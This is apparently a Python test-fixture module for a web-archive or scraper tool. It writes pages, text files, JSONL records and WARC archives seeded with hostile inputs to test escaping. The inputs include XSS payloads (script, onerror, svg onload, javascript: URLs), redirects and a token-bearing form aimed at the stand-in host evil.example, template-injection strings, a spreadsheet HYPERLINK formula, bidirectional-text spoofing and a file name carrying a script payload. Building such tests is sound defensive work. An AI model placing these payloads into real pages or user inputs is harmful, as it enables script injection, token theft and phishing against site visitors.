"""Captures that attack: what every one of them tries is to do something in a reader's browser."""

import json
from collections.abc import Iterator
from html import escape
from pathlib import Path

from .versions import archive

OVERRIDE, ISOLATE = "\u202e", "\u2067"
ATTACKS = (
    "<script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<svg/onload=document.title='pwned'>",
    "<iframe src=\"javascript:parent.document.title='pwned'\"></iframe>",
    "<style>body{display:none} @import url(http://evil.example/x.css);</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/>",
    "<form action=http://evil.example/><input name=token></form>",
    "</p></main></body></html><script>document.title='pwned'</script>",
    "\"><script>document.title='pwned'</script>",
    "' onmouseover='document.title=1' x='",
    "{{ 7 * 7 }}{% raw %}{% endraw %}${7*7}",
    "<!-- --!><script>document.title='pwned'</script>",
    "<![CDATA[<script>document.title='pwned'</script>]]>",
    "&lt;script&gt;document.title='pwned'&lt;/script&gt;",
    "\\u003cscript\\u003edocument.title='pwned'\\u003c/script\\u003e",
    f"{OVERRIDE}gnihtyna{ISOLATE} turned around",
    '=HYPERLINK("http://evil.example","x")',
    "javascript:document.title='pwned'//http://a.example",
)
ADDRESSES = (
    "javascript:document.title='pwned'",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://a.example/\"onmouseover=\"document.title='pwned'",
    "http://a.example/<script>alert(1)</script>",
    "//evil.example/x",
    "https://good.example@evil.example/\u202emoc.elpmaxe",
)
HUGE = "x" * 20_000
EDITED = (*ATTACKS, HUGE)
LETTERS = (
    """{who} of the {matter} wrote to the council on Friday; {words} stood in the letter, which {answer} will read.
The {matter} has been where it is since the great storm, and most who work there live in the streets behind it.""",
    """A meeting about the {matter} was told that {words} had been found, and {who} asked {answer} to look into it.
Whoever wants to see the {matter} before summer asks at the harbour office, open from nine on all days but Monday.""",
)
EDITED_PAGE = """<!DOCTYPE html><html lang="en"><head><title>The {title} of Port Merrow</title></head>
<body><article><h1>The {title} of Port Merrow</h1>{body}</article></body></html>"""
WHO = ("Ngozi Okafor", "Aino Berg", "Tomas Lindqvist")
ANSWERS = ("the mayor", "a clerk", "nobody else", "the treasurer")
MATTERS = (
    "lighthouse", "herring market", "north quay", "ferry line", "rope works", "customs house", "fish ladder",
    "tide table", "dredger", "pilots' school", "bonded store", "boat shed", "salt pans", "net loft", "sea wall",
    "swing bridge", "coal wharf", "ice house", "signal mast", "dry dock", "eel farm",
)  # fmt: skip


def paragraphs(attack: str, number: int) -> list[str]:
    """An article whose every part carries *attack*."""
    return [
        f"The council of Port Merrow met {attack} on Friday to talk about the quays, item {number} of a long list.",
        f"“We were never told about {attack} before today,” Ngozi {attack} Okafor said on Friday.",
        f"Tomas Lindqvist said {attack} that the plan {number} would be looked at again in May.",
        f"“{HUGE}{attack},” Aino Berg said.",
    ]


def page(attack: str, number: int, address: str) -> str:
    """A saved page."""
    body = "".join(f"<p>{paragraph}</p>" for paragraph in paragraphs(attack, number))
    return (
        f"<!DOCTYPE html><html lang=en><head><title>Council Meets {attack} {number}</title>"
        f'<link rel="canonical" href="{address}"><meta name="author" content="{attack}">'
        f'<meta property="og:site_name" content="Port {attack}"></head><body onload="document.title=1">'
        f'<h1>Council Meets {attack} {number}</h1>{body}<p><a href="{address}">Related: {attack}</a></p>'
        f"<script>document.title='pwned'</script></body></html>"
    )


def write(folder: Path) -> None:
    """All of them, as pages, as text and as a scraper's lines."""
    folder.mkdir()
    lines = []
    for number, attack in enumerate(ATTACKS):
        address = ADDRESSES[number % len(ADDRESSES)]
        (folder / f"page-{number}.html").write_text(page(attack, number, address), encoding="utf8")
        text = "\n\n".join([f"Council Meets {attack} again, {number}", *paragraphs(attack, number + 100), address])
        (folder / f"text-{number}.txt").write_text(text, encoding="utf8")
        lines.append(
            {
                "url": address,
                "title": f"{attack} {number}",
                "date": attack,
                "author": attack,
                "text": "\n".join(paragraphs(attack, number + 200)),
            }
        )
    (folder / "lines.jsonl").write_text("\n".join(json.dumps(line) for line in lines), encoding="utf8")
    (folder / "<img src=x onerror=document.title=1>.txt").write_text(
        "A name can attack, too.\n\n“It can,” Ngozi Okafor said on Friday, as she had said before to others.",
        encoding="utf8",
    )


def early(number: int) -> str:
    """A word of the earlier versions alone, beside an attack of `EDITED` or where one stands later."""
    return f"early{number}"


def edited(folder: Path) -> None:
    """Two articles in two versions each: the attacks were edited out of the one, and into the other."""
    folder.mkdir()
    out = [(f"{attack} {early(number)}", "nothing of the kind") for number, attack in enumerate(EDITED)]
    into = [(f"praise of harbours, {early(number)},", attack) for number, attack in enumerate(EDITED)]
    for name, letter, edits in zip(("letters", "meeting"), LETTERS, (out, into), strict=True):
        versions = (
            (time, {"title": name, "body": "".join(lettered(letter, [edit[place] for edit in edits]))})
            for place, time in enumerate(("2024-05-14T08:10:00Z", "2024-05-14T16:30:00Z"))
        )
        archive(folder / f"{name}.warc.gz", tuple(versions), EDITED_PAGE, f"https://a.example/{name}")


def lettered(letter: str, words: list[str]) -> Iterator[str]:
    """The paragraphs of a version, each with *words* of its own."""
    for number, (each, matter) in enumerate(zip(words, MATTERS, strict=True)):
        told = {"who": WHO[number % len(WHO)], "answer": ANSWERS[number % len(ANSWERS)], "matter": matter}
        yield f"<p>{escape(letter.format(words=each, **told))}</p>"
